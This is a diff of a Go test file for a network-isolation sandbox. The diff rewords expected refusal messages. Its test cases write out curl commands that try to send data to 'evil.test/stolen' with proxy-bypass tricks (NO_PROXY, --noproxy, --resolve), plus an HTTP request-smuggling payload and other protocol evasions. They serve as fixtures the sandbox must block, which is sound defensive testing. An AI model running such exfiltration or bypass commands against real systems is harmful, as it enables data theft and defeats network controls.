@@ -130,7 +130,7 @@ c.wrap_socket(s)'`, `refused TLS for "" on a connection to web.test:%SECURE`},
 		"refused evil.test:%PLAIN; setting network.allow"},
 	{"NO_PROXY", `NO_PROXY='*' no_proxy='*' curl -sS http://evil.test:%PLAIN/stolen`, "[network: refused evil.test"},
 	{"the address of a host", `curl -sS --noproxy '*' --resolve evil.test:%PLAIN:127.0.0.1 http://evil.test:%PLAIN/stolen`,
-		"refused 127.0.0.1:%PLAIN, which stands for no name"},
+		"refused 127.0.0.1:%PLAIN, which is assigned to no name"},
 	{"the address of another name", `a=$(/usr/bin/python3 -c 'import socket; print(socket.gethostbyname("web.test"))')
 curl -sS --noproxy '*' --resolve evil.test:%PLAIN:$a http://evil.test:%PLAIN/stolen`,
 		`refused a request for "evil.test:%PLAIN" on a connection to web.test:%PLAIN`},
@@ -146,7 +146,7 @@ curl -sS --noproxy '*' --resolve evil.test:%PLAIN:$a http://evil.test:%PLAIN/sto
 'Transfer-Encoding : chunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\nPOST /stolen HTTP/1.1\r\nHost: only.test:%PLAIN\r\n\r\n' |
 raw only.test %PLAIN`, "HTTP/1.1 400"},
 	{"a protocol that is not HTTP", raw + `printf 'SSH-2.0-x\r\n' | raw web.test %PLAIN`,
-		"[network: refused a connection to web.test:%PLAIN, as it begins with neither TLS nor HTTP]"},
+		"[network: refused a connection to web.test:%PLAIN, which begins with neither TLS nor HTTP]"},
 	{"HTTP/2 without TLS", `curl -sS --noproxy '*' --http2-prior-knowledge http://web.test:%PLAIN/stolen`,
 		"begins with neither TLS nor HTTP"},
 	{"an upgrade to HTTP/2 without TLS", `curl -sS --noproxy '*' --http2 http://web.test:%PLAIN/hello`, "hello from"},
@@ -334,8 +334,8 @@ func TestTheNetworkIsExplained(t *testing.T) {
 		t.Errorf("without isolation: %s", off)
 	}
 	for entry, want := range map[string]string{
-		"*.com": "below com", "*.co.uk": "below co.uk", "127.0.0.1": "write 127.0.0.1/32", "https://web.test": "write the host alone, such as web.test",
-		"web.*": "*.example.org", "0177.0.0.1": "neither a host name nor an address", "web.test:http": "is no port",
+		"*.com": "below com", "*.co.uk": "below co.uk", "127.0.0.1": "as a network, 127.0.0.1/32", "https://web.test": "write only the host, web.test",
+		"web.*": "*.example.org", "0177.0.0.1": "neither a host name nor an address", "web.test:http": "is not a port",
 	} {
 		config := fmt.Sprintf(`{"network": {"allow": [%q]}}`, entry)
 		if err := os.WriteFile(filepath.Join(a.Home, "config.json"), []byte(config), 0o600); err != nil {
